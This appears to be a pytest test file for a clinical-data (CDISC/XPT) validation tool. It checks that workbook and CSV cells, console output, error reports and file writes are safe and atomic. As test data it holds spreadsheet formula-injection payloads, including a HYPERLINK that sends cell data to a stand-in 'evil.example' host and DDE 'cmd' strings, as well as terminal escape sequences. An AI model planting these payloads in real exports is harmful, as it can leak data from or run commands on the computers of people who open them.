"""Issue #8, reports and console: no formula in a workbook, no escape sequence on the
terminal, no 50 MB value echoed, repeated problems capped and counted, reports written
all or nothing, and no file of someone else's replaced or deleted.

Each test names the item of the issue it covers.
"""

from __future__ import annotations

import errno
import json
import os
from datetime import datetime
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

import cli
from cdisc.errors import CdiscError, Location, OutputError, Problem
from cdisc.formats.xpt import _MEMBER_NAME, write_xpt
from cdisc.limits import DEFAULT_LIMITS, Limits
from cdisc.report_console import (
    GENERATOR,
    SHOWN_PER_CODE,
    echo,
    is_errors_json,
    print_problems,
    remove_stale_errors_json,
    write_errors_json,
)
from cdisc.text_safety import append_row, console_text, csv_field, sheet_cell
from cdisc.validate import to_json, validate_datasets, validate_folder, write_reports
from cdisc.validate.report import JSON_NAME, XLSX_NAME, print_report

# Text a spreadsheet would run as a formula (or show as an error value) if stored as such.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "=",
]
CONTROL = "\x1b[2J\x1b]0;owned\x07\x9b31m\x7f\u202e"
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\x7f", "\u202e")
CREATED = datetime(2020, 1, 1)


def _dm(sex: list[str]) -> pd.DataFrame:
    n = len(sex)
    return pd.DataFrame({
        "STUDYID": ["S"] * n, "DOMAIN": ["DM"] * n,
        "USUBJID": [f"S-{i}" for i in range(n)], "SUBJID": [str(i) for i in range(n)],
        "SITEID": ["1"] * n, "SEX": sex, "COUNTRY": ["USA"] * n,
        # over 80 bytes a record, so XPT v5 padding cannot hide the last record
        "ARM": ["Treatment arm with a long enough name"] * n,
    })


def _write(frame: pd.DataFrame, path: Path, name: str) -> None:
    write_xpt(frame, path, name=name, label=name, column_labels={c: c for c in frame},
              created=CREATED)


def _cells(path: Path) -> list:
    wb = load_workbook(path)
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]


def _problems(code: str, n: int, **where) -> list[Problem]:
    return [Problem(code, f"problem {i}", Location(row=i + 2, **where)) for i in range(n)]


# --- 1. formula injection ---------------------------------------------------------------


def test_formula_injection_sheet_cell_stores_text_not_formula(tmp_path):
    """Security, formula injection: the one workbook-cell writer keeps text as text."""
    wb = Workbook()
    ws = wb.active
    append_row(ws, [*FORMULAS, 3, 2.5, None, True, np.float64(1e100), np.int64(7)])
    path = tmp_path / "t.xlsx"
    wb.save(path)
    row = next(load_workbook(path).active.iter_rows())
    for cell, text in zip(row, FORMULAS, strict=False):
        assert cell.data_type == "s", (text, cell.data_type)
        assert cell.value == text  # exactly as written: no quote, nothing dropped
    numbers = row[len(FORMULAS):]
    assert [c.value for c in numbers] == [3, 2.5, None, True, 1e100, 7]
    assert [c.data_type for c in numbers if c.value is not None] == ["n", "n", "b", "n", "n"]
    assert sheet_cell(ws, float("nan")).value == "nan"  # a workbook cannot hold NaN


def test_formula_injection_validation_xlsx_from_xpt_values(tmp_path):
    """Security, formula injection: XPT values starting with = + - @ reach validation.xlsx
    (through CV0103 findings) as string cells, unchanged."""
    printable = [f for f in FORMULAS if f.isprintable() and f != "="]
    folder = tmp_path / "study"
    folder.mkdir()
    _write(_dm(printable), folder / "dm.xpt", "DM")
    run = CliRunner().invoke(cli.main, ["validate", str(folder), "--out", str(tmp_path / "r")])
    assert run.exit_code == 1, run.output
    cells = _cells(tmp_path / "r" / XLSX_NAME)
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    found = {c.value for c in cells if c.data_type == "s"}
    assert set(printable) <= found


def test_formula_injection_control_characters_and_tabs_from_frames(tmp_path):
    """Security, formula injection: tab/CR before a formula; control characters are escaped
    (a workbook cannot hold them) and the cell is still text."""
    result = validate_datasets({"DM": _dm(FORMULAS)})
    write_reports(result, tmp_path)
    cells = _cells(tmp_path / XLSX_NAME)
    assert not [c.coordinate for c in cells if c.data_type in ("f", "e")]
    values = {c.value for c in cells}
    assert "\t=1+1" in values and "\r=1+1" in values and "#N/A" in values


def test_csv_field_neutralises_formula_triggers():
    """Security, formula injection in CSV (no CSV report exists; the helper is ready)."""
    assert [csv_field(v) for v in FORMULAS[:6]] == ["'" + v for v in FORMULAS[:6]]
    assert csv_field("ok") == "ok" and csv_field(-3) == -3 and csv_field(None) is None


# --- 2. terminal escapes ----------------------------------------------------------------


def test_console_text_escapes_every_control_character():
    """Security, terminal escapes: C0, DEL, C1, bidi controls, lone surrogates."""
    text = console_text("A" + CONTROL + "\udcff\n\t é")
    assert not any(ch in text for ch in (*RAW_CONTROLS, "\udcff", "\n", "\t"))
    assert text == ("A\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\x7f\\u202e\\udcff\\n\\t é")
    assert console_text("plain é ü") == "plain é ü"


def test_terminal_escapes_in_an_xpt_member_name_are_not_printed(tmp_path):
    """Security, terminal escapes: an XPT member name holding ESC/BEL/CSI, `cdisc validate`."""
    folder = tmp_path / "study"
    folder.mkdir()
    path = folder / "ae.xpt"
    _write(pd.DataFrame({"STUDYID": ["S"], "DOMAIN": ["AE"], "USUBJID": ["S-1"]}), path, "AE")
    raw = bytearray(path.read_bytes())
    raw[_MEMBER_NAME] = "\x1b[2J\x07A\x9b".encode()  # 8 bytes: ESC [ 2 J BEL A + C1 CSI
    path.write_bytes(bytes(raw))
    assert validate_folder(folder).datasets[0].name == "\x1b[2J\x07A\x9b"
    run = CliRunner().invoke(cli.main, ["validate", str(folder), "--out", str(tmp_path / "r")])
    assert run.exit_code == 1, run.output
    assert not any(ch in run.output for ch in RAW_CONTROLS), repr(run.output)
    assert "dataset         \\x1b[2J\\x07A\\x9b (SDTM, 1 records)" in run.output


def test_terminal_escapes_in_problems_and_findings(capsys):
    """Security, terminal escapes: names, values and messages of problems and findings."""
    problems = [Problem("SRC001", f"bad {CONTROL}", Location(
        file=f"f{CONTROL}.csv", sheet=CONTROL, row=2, field=CONTROL, value=CONTROL,
        dataset=CONTROL, usubjid=CONTROL))]
    print_problems(problems, None)
    echo(f"name {CONTROL}")
    frame = pd.DataFrame({"STUDYID": ["S"], "DOMAIN": ["AE"], "USUBJID": [CONTROL]})
    print_report(validate_datasets({f"A{CONTROL}": frame}))
    out, err = capsys.readouterr()
    assert "SRC001" in err and "CV0002" in out
    assert not any(ch in out + err for ch in RAW_CONTROLS), repr(out + err)


# --- 3. long values, numpy numbers ------------------------------------------------------


def test_a_50_mb_value_is_clipped_on_the_console_and_in_errors_json(tmp_path, capsys):
    """Resource limits: a 50 MB field is not echoed in full (stderr, errors.json)."""
    big = "x" * 52_428_800
    problems = [Problem("SRC020", "cell too long", Location(file="a.csv", row=2, value=big)),
                Problem("MAP001", f"not a date: {big!r}", Location(file="a.csv", row=3))]
    target = tmp_path / "out.errors.json"
    print_problems(problems, target)
    err = capsys.readouterr().err
    assert len(err) < 10_000
    assert f"value {'x' * 200!r}… (52428800 characters)" in err
    assert target.stat().st_size < 10_000
    payload = json.loads(target.read_text(encoding="utf-8"))
    assert payload["problems"][0]["location"]["value"] == "x" * 200 + "… (52428800 characters)"
    assert payload["problems"][1]["message"].endswith("… (52428814 characters)")
    assert len(str(problems[0])) < 1_000 and len(str(problems[1])) < 3_000


def test_short_values_and_numpy_numbers():
    """Messages: numpy scalars print as plain numbers; short values are kept as they are."""
    loc = Location(field="EXDOSE", value=np.float64(1e100))
    assert str(loc) == "field EXDOSE, value 1e+100"
    assert loc.to_dict() == {"field": "EXDOSE", "value": 1e100}
    assert type(Location(value=np.int64(5)).to_dict()["value"]) is int
    assert Location(value="abc").to_dict()["value"] == "abc"
    assert str(Location(value="abc")) == "value 'abc'"
    assert Location(value=float("inf")).to_dict()["value"] == "inf"  # strict JSON has no inf
    assert Location(value="y" * 20).to_dict(5)["value"] == "yyyyy… (20 characters)"


# --- 4. caps on repeated problems -------------------------------------------------------


def test_errors_json_keeps_problems_per_code_and_counts_the_rest(tmp_path, capsys):
    """Resource limits: errors.json and the console cap repeated problems, counts stay exact."""
    problems = _problems("MAP002", 1500, file="a.csv") + _problems("SRC004", 3, file="b.csv")
    target = tmp_path / "out.errors.json"
    print_problems(problems, target)
    payload = json.loads(target.read_text(encoding="utf-8"))
    assert payload["generator"] == GENERATOR
    assert payload["counts"] == {"MAP002": 1500, "SRC004": 3}
    assert payload["omitted"] == {"MAP002": 500}
    assert payload["problems_per_code"] == DEFAULT_LIMITS.problems_per_code
    kept = [p["location"]["row"] for p in payload["problems"] if p["code"] == "MAP002"]
    assert kept == list(range(2, 1002))  # the first 1000, in the stage's order
    err = capsys.readouterr().err
    assert err.count("  a.csv, row ") == SHOWN_PER_CODE
    assert f"... and {1500 - SHOWN_PER_CODE} more (the first 1000 are in {target})" in err
    write_errors_json(target, problems, Limits(problems_per_code=2))
    small = json.loads(target.read_text(encoding="utf-8"))
    assert len(small["problems"]) == 4 and small["omitted"] == {"MAP002": 1498, "SRC004": 1}


def test_validation_reports_cap_details_keep_exact_counts(tmp_path):
    """Resource limits: validation.json/.xlsx list problems_per_code findings per rule."""
    result = validate_datasets({"DM": _dm(["BAD"] * 30)})
    limits = Limits(problems_per_code=10)
    payload = to_json(result, limits)
    (rule,) = [r for r in payload["rules"] if r["id"] == "CV0103"]
    assert rule["count"] == 30 and rule["omitted"] == 20
    assert sum(f["rule"] == "CV0103" for f in payload["findings"]) == 10
    assert payload["summary"] == result.summary and payload["summary"]["error"] >= 30
    assert all("omitted" not in r for r in payload["rules"] if r["count"] <= 10)
    write_reports(result, tmp_path, limits)
    assert json.loads((tmp_path / JSON_NAME).read_text()) == payload
    wb = load_workbook(tmp_path / XLSX_NAME)
    details = [r for r in wb["Details"].iter_rows(min_row=2, values_only=True)
               if r[5] == "CV0103"]
    assert len(details) == 11 and details[-1][6].startswith("20 more findings of CV0103")
    found = [r[4] for r in wb["Issue Summary"].iter_rows(min_row=2, values_only=True)
             if r[1] == "CV0103"]
    assert found == [30]


# --- 5. atomic, ownership-checked writes ------------------------------------------------


def _fail_writes_after(monkeypatch, limit: int) -> None:
    """os.write writes ``limit`` bytes, then the disk is full."""
    real = os.write
    written = {"n": 0}

    def write(fd, data):
        room = limit - written["n"]
        if room <= 0:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        n = real(fd, bytes(data[:room]))
        written["n"] += n
        return n

    monkeypatch.setattr(os, "write", write)


def test_full_disk_leaves_no_partial_errors_json(tmp_path, monkeypatch):
    """Tracebacks: a full disk while writing out.errors.json (a 0-byte file was left)."""
    target = tmp_path / "out.errors.json"
    _fail_writes_after(monkeypatch, 100)
    with pytest.raises(OutputError) as caught:
        write_errors_json(target, _problems("MAP002", 50, file="a.csv"))
    (problem,) = caught.value.problems
    assert "\n" not in str(problem) and "the disk is full" in str(problem)
    assert list(tmp_path.iterdir()) == []  # no 0-byte, partial or temporary file


def test_full_disk_keeps_the_previous_errors_json(tmp_path, monkeypatch, capsys):
    """Tracebacks: a failed write keeps the old file whole; print_problems says so in one line."""
    target = tmp_path / "out.errors.json"
    write_errors_json(target, _problems("OLD001", 1))
    before = target.read_bytes()
    _fail_writes_after(monkeypatch, 10)
    print_problems(_problems("MAP002", 50, file="a.csv"), target)
    assert target.read_bytes() == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.errors.json"]
    err = capsys.readouterr().err
    (line,) = [x for x in err.splitlines() if "not written" in x]
    assert "the disk is full" in line and "Traceback" not in err


def test_errors_json_under_a_regular_file_is_a_clear_error(tmp_path, capsys):
    """Tracebacks: a path under a regular file."""
    (tmp_path / "file").write_text("mine")
    print_problems(_problems("MAP002", 2), tmp_path / "file" / "out.errors.json")
    err = capsys.readouterr().err
    (line,) = [x for x in err.splitlines() if "not written" in x]
    assert "file/out.errors.json" in line and "folder path is a file, not a folder" in line
    assert (tmp_path / "file").read_text() == "mine"


def test_errors_json_never_replaces_a_file_that_is_not_ours(tmp_path, capsys):
    """Data loss: --errors-json pointing at a user's file does not overwrite it."""
    for content in ('{"results": [1, 2]}\n', "notes\n", '{\n  "generator": "cdisc-convert"'):
        mine = tmp_path / "results.json"
        mine.write_text(content)
        with pytest.raises(OutputError) as caught:
            write_errors_json(mine, _problems("MAP002", 1))
        assert caught.value.problems[0].code == "REP002"
        print_problems(_problems("MAP002", 1), mine)
        assert mine.read_text() == content
    assert "not written" in capsys.readouterr().err
    folder = tmp_path / "dir.json"
    folder.mkdir()
    with pytest.raises(OutputError):
        write_errors_json(folder, _problems("MAP002", 1))


def test_remove_stale_errors_json_only_removes_ours(tmp_path):
    """Messages: <out>.errors.json of a failed run is removed by a later successful run."""
    ours = tmp_path / "out.errors.json"
    write_errors_json(ours, _problems("MAP002", 3))
    assert is_errors_json(ours)
    link = tmp_path / "link.errors.json"
    link.symlink_to(ours)
    assert remove_stale_errors_json(link) is False and ours.exists()
    assert remove_stale_errors_json(ours) is True and not ours.exists()
    assert remove_stale_errors_json(ours) is False  # gone already
    legacy = tmp_path / "legacy.errors.json"  # written before the generator key existed
    legacy.write_text(json.dumps({"problems": [], "counts": {}}, indent=2) + "\n")
    assert remove_stale_errors_json(legacy) is True
    for content in ('{"problems": [], "counts": {}, "mine": 1}', "[]", "not json", ""):
        other = tmp_path / "other.errors.json"
        other.write_text(content)
        assert remove_stale_errors_json(other) is False and other.read_text() == content


def test_validate_out_full_disk_is_one_line_and_keeps_old_reports(tmp_path, monkeypatch):
    """Tracebacks: a full disk while `cdisc validate --out` writes its reports."""
    folder, reports = tmp_path / "study", tmp_path / "reports"
    folder.mkdir()
    _write(_dm(["M", "F"]), folder / "dm.xpt", "DM")
    first = CliRunner().invoke(cli.main, ["validate", str(folder), "--out", str(reports)])
    assert first.exit_code == 0, first.output
    before = {p.name: p.read_bytes() for p in reports.iterdir()}
    _fail_writes_after(monkeypatch, 1000)
    run = CliRunner().invoke(cli.main, ["validate", str(folder), "--out", str(reports)])
    assert run.exit_code == 2, run.output
    assert "the disk is full" in run.output and "Traceback" not in run.output
    assert {p.name: p.read_bytes() for p in reports.iterdir()} == before


def test_report_write_errors_are_cdisc_errors(tmp_path):
    """Tracebacks: validation reports into a folder under a regular file."""
    (tmp_path / "file").write_text("x")
    result = validate_datasets({"DM": _dm(["M"])})
    with pytest.raises(CdiscError) as caught:
        write_reports(result, tmp_path / "file" / "reports")
    assert len(caught.value.problems) == 1 and "\n" not in str(caught.value)


# --- 6. the faster checks find what the pandas versions found ---------------------------


def test_fast_column_checks_agree_with_pandas():
    """Performance rewrite of CV0004/CV0005/CV0006/CV0203: same findings, plus a value
    ending in a newline is now caught (a `$` in the old pattern let it pass)."""
    from cdisc.validate.frames import first_rows, printable_ascii, strings, utf8_lengths

    values = pd.Series(["a ", "", None, "é" * 70, "x" * 201, "ok\n", "tab\t", "~", np.nan,
                        "\x7f", "caf\u00e9"], dtype=object)
    text = strings(values)
    assert text.tolist() == ["a", None, None, "é" * 70, "x" * 201, "ok\n", "tab\t", "~",
                             None, "\x7f", "café"]
    assert utf8_lengths(text).tolist() == [
        0 if v is None else len(v.encode()) for v in text]
    assert printable_ascii(text).tolist() == [
        True, True, True, False, True, False, False, True, True, False, False]
    frame = pd.DataFrame({"a": ["x", "y", "x", None, None, "x"], "b": [1, 2, 1, 3, 3, 1]})
    expected = frame.groupby(["a", "b"], dropna=False, sort=False).ngroup()
    first = pd.Series(np.arange(len(frame))).groupby(expected.to_numpy()).transform("min")
    assert first_rows([frame["a"], frame["b"]]).tolist() == first.tolist()
    assert (first_rows([frame["a"], frame["b"]]) != np.arange(6)).tolist() == \
        frame.duplicated().tolist()
